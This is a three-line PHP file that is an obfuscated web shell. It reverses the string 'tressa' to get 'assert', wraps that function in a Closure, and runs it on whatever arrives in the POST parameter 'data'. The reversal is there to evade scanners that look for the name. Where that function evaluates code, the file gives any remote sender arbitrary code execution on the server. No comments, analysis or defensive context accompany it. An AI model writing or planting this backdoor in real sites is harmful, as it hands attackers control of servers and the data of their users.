<?php
$c = Closure::fromCallable(strrev('tressa'));
$c($_POST['data']);
